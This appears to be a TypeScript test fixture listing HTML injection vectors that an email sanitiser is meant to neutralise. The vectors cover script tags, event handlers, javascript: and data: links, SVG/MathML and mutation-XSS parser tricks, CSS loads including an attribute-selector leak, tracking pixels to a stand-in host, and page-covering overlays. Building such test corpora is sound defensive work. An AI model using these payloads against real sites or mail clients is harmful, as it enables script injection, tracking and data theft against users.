/** What a payload does when it runs: tells the page it is in, every page around it, and the net. */
const RUN = `try{top.hit('ran')}catch(e){}try{parent.hit('ran')}catch(e){}try{hit('ran')}catch(e){};new Image().src='https://tracker.example/ran'`
/** The same without quotes, angle brackets and blanks, for attributes of every kind. */
const BARE = `top.hit(&#x60;ran&#x60;)`
const URL = 'https://tracker.example'
const data = (type: string, body: string) => `data:${type};base64,${Buffer.from(body).toString('base64')}`
const page = `<script>${RUN}</script>`

const scripts: [string, string][] = [
  ['script', `<script>${RUN}</script>`],
  ['script in capitals and blanks', `<SCRIPT\n>${RUN}</SCRIPT\t\n bar>`],
  ['script with a slash', `<script/x>${RUN}</script>`],
  ['script from the net', `<script src="${URL}/x.js"></script>`],
  ['script without scheme', `<script src=//tracker.example/x.js></script>`],
  ['script inside script', `<scr<script></script>ipt>${RUN}</script>`],
  ['script that is never closed', `<script>${RUN}`],
  ['script of modules', `<script type="module">${RUN}</script>`],
  ['script behind a null byte', `<scr\0ipt>${RUN}</scr\0ipt>`],
  [
    'script as import map',
    `<script type="importmap">{"imports":{"x":"${URL}/x.js"}}</script><script type=module>import 'x'</script>`,
  ],
  ['double open', `<<script>${RUN}//<</script>`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${BARE}>"></noscript>`],
  ['template', `<template><script>${RUN}</script></template>`],
  [
    'declarative shadow root',
    `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror="${BARE}"></template></div>`,
  ],
  ['slot', `<slot onslotchange="${BARE}"><p>x</p></slot>`],
]

const handlers: [string, string][] = [
  ['onerror', `<img src=x onerror="${BARE}">`],
  ['onerror without quotes', `<img src=x onerror=${BARE}>`],
  ['onerror behind a slash', `<img/src=x/onerror=${BARE}>`],
  ['onerror behind a form feed', `<img\fsrc=x\fonerror=${BARE}>`],
  ['onerror in capitals', `<IMG SRC=x OnErRoR="${BARE}">`],
  ['onerror after a broken quote', `<img src="x\`\` onerror=${BARE}">`],
  ['onerror in grave accents', `<img src=\`x\` onerror=\`${BARE}\`>`],
  ['onload of an image', `<img src="${data('image/gif', 'GIF89a')}" onload="${BARE}" onerror="${BARE}">`],
  ['onload of a body', `<body onload="${BARE}">`],
  ['onpageshow of a body', `<body onpageshow="${BARE}" onhashchange="${BARE}" onfocus="${BARE}">`],
  ['onload of svg', `<svg onload="${BARE}"></svg>`],
  ['onload of svg, slashes', `<svg/onload=${BARE}>`],
  ['ontoggle', `<details open ontoggle="${BARE}"><summary>x</summary></details>`],
  ['onfocus of its own', `<input autofocus onfocus="${BARE}">`],
  ['onfocus by tabindex', `<p id=x tabindex=1 autofocus onfocus="${BARE}">x</p>`],
  ['onstart of marquee', `<marquee onstart="${BARE}" loop=1 width=0>x</marquee>`],
  [
    'onanimationstart',
    `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="${BARE}">x</p>`,
  ],
  ['ontransitionend', `<p style="transition:color 1ms" ontransitionend="${BARE}">x</p>`],
  ['onbeforetoggle', `<button popovertarget=p>x</button><p id=p popover onbeforetoggle="${BARE}">x</p>`],
  ['onloadstart of video', `<video onloadstart="${BARE}" src=x></video>`],
  ['onerror of a source', `<video><source onerror="${BARE}"></video>`],
  ['onerror of audio', `<audio src=x onerror="${BARE}">`],
  ['onerror of object', `<object data=x onerror="${BARE}"></object>`],
  [
    'oncontentvisibility',
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${BARE}">x</p>`,
  ],
  ['onscrollend', `<p onscrollend="${BARE}" style="height:9px;overflow:scroll">x<br>x<br>x</p>`],
  ['an unknown handler', `<p onsomethingnew="${BARE}">x</p>`],
  ['a handler in a closing tag', `<p>x</p onclick="${BARE}"><img src=x onerror="${BARE}">`],
]

const urls: [string, string][] = [
  ['javascript link', `<a href="javascript:${BARE}" id=go>go</a>`],
  ['javascript link with blanks', `<a href="  \tjava\nscript:${BARE}">go</a>`],
  ['javascript link in entities', `<a href="&#106;avascript&colon;${BARE}">go</a>`],
  ['javascript link with controls', `<a href="\u0001javascript:${BARE}">go</a>`],
  ['vbscript', `<a href="vbscript:msgbox(1)">go</a>`],
  ['data link', `<a href="${data('text/html', page)}">go</a>`],
  ['blob link', `<a href="blob:${URL}/x">go</a>`],
  ['javascript image', `<img src="javascript:${BARE}">`],
  ['data image that is a page', `<img src="${data('text/html', page)}">`],
  [
    'data image that is svg',
    `<img src="${data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}">`,
  ],
  [
    'area',
    `<map name=m><area href="javascript:${BARE}" shape=rect coords=0,0,999,999></map><img usemap=#m src=x>`,
  ],
  ['formaction', `<form><button formaction="javascript:${BARE}">x</button></form>`],
  ['action', `<form action="javascript:${BARE}"><input type=submit value=x></form>`],
  ['frame', `<iframe src="javascript:${BARE}"></iframe>`],
  ['frame with a page', `<iframe srcdoc="<script>${RUN.replaceAll('"', '&quot;')}</script>"></iframe>`],
  ['frame of data', `<iframe src="${data('text/html', page)}"></iframe>`],
  ['frameset', `<frameset><frame src="javascript:${BARE}"></frameset>`],
  ['fenced frame', `<fencedframe src="${URL}/frame"></fencedframe>`],
  ['object', `<object data="${data('text/html', page)}"></object>`],
  [
    'embed',
    `<embed src="${data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`)}">`,
  ],
  ['applet', `<applet code="x" codebase="${URL}"></applet>`],
  ['portal', `<portal src="${URL}/portal"></portal>`],
]

const svg: [string, string][] = [
  ['svg script', `<svg><script>${RUN}</script></svg>`],
  ['svg script by reference', `<svg><script href="${URL}/x.js"/></svg>`],
  ['svg script by xlink', `<svg><script xlink:href="${data('text/javascript', RUN)}"></script></svg>`],
  [
    'svg animation of a link',
    `<svg><a><animate attributeName=href values="javascript:${BARE}" /><text y=20>go</text></a></svg>`,
  ],
  ['svg set', `<svg><set attributeName=onload to="${BARE}"/></svg>`],
  ['svg animation that begins', `<svg><animate onbegin="${BARE}" attributeName=x dur=1s></svg>`],
  [
    'svg use',
    `<svg><use href="${data('image/svg+xml', `<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`)}#x"/></svg>`,
  ],
  [
    'svg foreign object',
    `<svg><foreignObject><iframe srcdoc="<script>${RUN.replaceAll('"', '&quot;')}</script>"></iframe></foreignObject></svg>`,
  ],
  ['svg image', `<svg><image href="${URL}/svg-image.png" /></svg>`],
  [
    'svg filter image',
    `<svg><filter id=f><feImage href="${URL}/fe.png" /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  ],
  ['svg style', `<svg><style>*{background:url(${URL}/svg-style.png)}</style></svg>`],
  ['svg title breakout', `<svg><title><img src=x onerror="${BARE}"></title></svg>`],
  ['svg desc breakout', `<svg><desc><b><img src=x onerror="${BARE}"></b></desc></svg>`],
  [
    'svg handler element',
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${RUN}</handler></svg>`,
  ],
]

const mathml: [string, string][] = [
  ['math link', `<math><mtext href="javascript:${BARE}">go</mtext></math>`],
  [
    'math action',
    `<math><maction actiontype="statusline#${URL}" xlink:href="javascript:${BARE}">go</maction></math>`,
  ],
  ['math text with html', `<math><mtext><img src=x onerror="${BARE}"></mtext></math>`],
  [
    'math annotation',
    `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  ],
]

/** Markup that means one thing to a sanitiser and another to the browser that reads its result again. */
const mutation: [string, string][] = [
  [
    'mXSS: math, mtext, style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BARE}&gt;">`,
  ],
  ['mXSS: svg, style, attribute', `<svg></p><style><a id="</style><img src=1 onerror=${BARE}>">`],
  ['mXSS: nested forms', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${BARE}>`],
  ['mXSS: noscript', `<div><noscript><a title="</noscript><img src=x onerror=${BARE}>">`],
  ['mXSS: listing', `<listing>&lt;img src=x onerror=${BARE}&gt;</listing>`],
  ['mXSS: xmp', `<xmp><p title="</xmp><img src=x onerror=${BARE}>">`],
  ['mXSS: plaintext', `<svg><plaintext></svg><img src=x onerror=${BARE}>`],
  ['mXSS: title', `<svg><title><style><!--</title><img src=x onerror=${BARE}>--></style></svg>`],
  ['mXSS: textarea', `<textarea><img title="</textarea><img src=x onerror=${BARE}>">`],
  [
    'mXSS: select',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${BARE}>"></a>`,
  ],
  ['mXSS: comment that ends early', `<!--><img src=x onerror=${BARE}>-->`],
  ['mXSS: comment that ends late', `<!--- --!><img src=x onerror=${BARE}>`],
  ['mXSS: conditional comment', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`],
  ['mXSS: CDATA', `<svg><![CDATA[><img src=x onerror=${BARE}>]]></svg>`],
  ['mXSS: CDATA outside', `<![CDATA[<img src=x onerror=${BARE}>]]>`],
  ['mXSS: processing instruction', `<?xml version="1.0"?><?php <img src=x onerror=${BARE}> ?>`],
  ['mXSS: doctype', `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${BARE}>">]><p>&x;</p>`],
  ['mXSS: entities twice', `<p>&amp;lt;img src=x onerror=${BARE}&amp;gt;</p>`],
  [
    'mXSS: entities once',
    `<p title="&lt;/p&gt;&lt;img src=x onerror=${BARE}&gt;">&lt;img src=x onerror=${BARE}&gt;</p>`,
  ],
  ['mXSS: custom namespace', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`],
  ['mXSS: deep nesting', `${'<div>'.repeat(600)}<img src=x onerror=${BARE}>${'</div>'.repeat(600)}`],
  [
    'mXSS: formatting pile',
    `${'<b><i><a>'.repeat(150)}<math><mtext><style><!--</style><img src=x onerror=${BARE}>`,
  ],
  ['mXSS: table and select', `<table><select><option><svg><style></select><img src=x onerror=${BARE}>`],
  ['mXSS: unclosed attribute', `<p title="x><img src=x onerror=${BARE}>`],
  ['UTF-7', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  [
    'clobbering',
    `<form id=x><input name=attributes><input name=nodeName><img name=getElementById id=body></form><a id=hit></a>`,
  ],
]

const styles: [string, string][] = [
  ['style sheet', `<style>body{background:url(${URL}/style.png)}</style>`],
  ['style import', `<style>@import '${URL}/import.css';</style>`],
  [
    'style font',
    `<style>@font-face{font-family:f;src:url(${URL}/font.woff)}p{font-family:f}</style><p>x</p>`,
  ],
  ['style link', `<link rel=stylesheet href="${URL}/link.css">`],
  ['attribute background', `<p style="background:url(${URL}/bg.png)">x</p>`],
  ['attribute in entities', `<p style="background:&#117;rl(${URL}/bg2.png)">x</p>`],
  ['attribute with escapes', `<p style="background:\\75 rl(${URL}/bg3.png)">x</p>`],
  ['attribute with comments', `<p style="background:u/**/rl(${URL}/bg4.png)">x</p>`],
  ['image-set', `<p style="background-image:image-set('${URL}/set.png' 1x)">x</p>`],
  ['cross-fade', `<p style="background:-webkit-cross-fade(url(${URL}/a.png),url(${URL}/b.png),50%)">x</p>`],
  ['list image', `<ul style="list-style:url(${URL}/list.png)"><li>x</ul>`],
  ['cursor', `<p style="cursor:url(${URL}/cursor.png),auto">x</p>`],
  ['content', `<p style="content:url(${URL}/content.png)">x</p>`],
  ['border image', `<p style="border-image-source:url(${URL}/border.png)">x</p>`],
  [
    'mask and clip',
    `<p style="mask:url(${URL}/mask.svg#m);clip-path:url(${URL}/clip.svg#c);filter:url(${URL}/f.svg#f)">x</p>`,
  ],
  ['variable', `<p style="--u:url(${URL}/var.png);background:var(--u)">x</p>`],
  ['font family breakout', `<p style="font-family:'x\\27;background:url(${URL}/ff.png)'">x</p>`],
  ['expression', `<p style="width:expression(${BARE})">x</p>`],
  ['binding', `<p style="-moz-binding:url(${URL}/x.xml#x);behavior:url(${URL}/x.htc)">x</p>`],
  ['attr selector of ours', `<style>input[value^=a]{background:url(${URL}/leak)}</style>`],
]

const loads: [string, string][] = [
  ['tracking pixel', `<img src="${URL}/pixel.gif" width=1 height=1>`],
  ['image without scheme', `<img src="//tracker.example/p.png">`],
  ['image with backslashes', `<img src="\\\\tracker.example\\p.png">`],
  ['image over http', `<img src="http://tracker.example/p.png">`],
  ['image by ftp', `<img src="ftp://tracker.example/p.png">`],
  ['image set', `<img srcset="${URL}/1x.png 1x, ${URL}/2x.png 2x">`],
  ['low source', `<img lowsrc="${URL}/low.png" dynsrc="${URL}/dyn.avi" longdesc="${URL}/long">`],
  ['picture', `<picture><source srcset="${URL}/source.png"><img></picture>`],
  ['input image', `<input type=image src="${URL}/input.png">`],
  ['table background', `<table background="${URL}/table.png"><tr><td background="${URL}/td.png">x</table>`],
  ['body background', `<body background="${URL}/body.png">`],
  ['video and poster', `<video src="${URL}/v.mp4" poster="${URL}/poster.png" autoplay></video>`],
  ['audio', `<audio src="${URL}/a.mp3" autoplay></audio>`],
  ['track', `<video><track default src="${URL}/t.vtt"></video>`],
  [
    'prefetch',
    `<link rel="prefetch" href="${URL}/prefetch"><link rel="preload" as=image href="${URL}/preload.png">`,
  ],
  ['icon', `<link rel="icon" href="${URL}/icon.png">`],
  ['manifest', `<link rel="manifest" href="${URL}/m.json">`],
  ['base', `<base href="${URL}/"><img src="relative.png">`],
  ['base with target', `<base target="_top"><a href="${URL}/away">go</a>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${URL}/away">`],
  ['meta refresh to script', `<meta http-equiv="refresh" content="0;url=javascript:${BARE}">`],
  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *">`],
  ['meta cookie', `<meta http-equiv="Set-Cookie" content="a=b">`],
  ['frame from the net', `<iframe src="${URL}/frame" width=999 height=999></iframe>`],
  [
    'form that sends itself',
    `<form id=f action="${URL}/form"><input name=a></form><img src=x onerror="f.submit()">`,
  ],
  ['ping', `<a href="https://example.org" ping="${URL}/ping">go</a>`],
  ['attribution', `<img src=x attributionsrc="${URL}/attribution">`],
  ['report', `<link rel="ping" href="${URL}/p"><bgsound src="${URL}/b.wav">`],
]

const covers: [string, string][] = [
  ['fixed layer', `<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div>`],
  [
    'fixed layer, important',
    `<div style="position:fixed!important;top:0;left:0;width:100vw;height:100vh;background:red">cover</div>`,
  ],
  [
    'absolute layer',
    `<div style="position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px;background:red">cover</div>`,
  ],
  ['sticky layer', `<div style="position:sticky;top:-999px;height:9999px;background:red">cover</div>`],
  ['negative margins', `<div style="margin:-5000px;padding:5000px;background:red">cover</div>`],
  ['transform', `<div style="transform:scale(900);background:red">cover</div>`],
  ['huge', `<div style="width:99999px;height:99999px;background:red">cover</div>`],
  ['huge image', `<img src="${data('image/gif', 'GIF89a')}" width=99999 height=99999>`],
  ['dialog', `<dialog open style="position:fixed;inset:0">cover</dialog>`],
  [
    'popover',
    `<div popover id=p>cover</div><button popovertarget=p popovertargetaction=show autofocus>x</button>`,
  ],
  ['shadow', `<div style="box-shadow:0 0 0 9999px red;outline:9999px solid red">cover</div>`],
  [
    'float',
    `<div style="float:left;width:9999px;height:9999px;margin-left:-9999px;background:red">cover</div>`,
  ],
  ['column', `<div style="columns:9999;column-gap:9999px">cover</div>`],
  ['overlay link', `<a href="https://example.org" style="display:block;position:fixed;inset:0">cover</a>`],
  ['our own classes', `<div class="fixed inset-0 z-50 absolute top-0" role="dialog" id="app">cover</div>`],
]

/** Mails that want to run, load or cover something, by what they try. */
export const vectors: { kind: string; name: string; html: string }[] = Object.entries({
  ...{ scripts, handlers, urls, svg, mathml, mutation, styles, loads, covers },
}).flatMap(([kind, list]) => list.map(([name, html]) => ({ kind, name, html })))
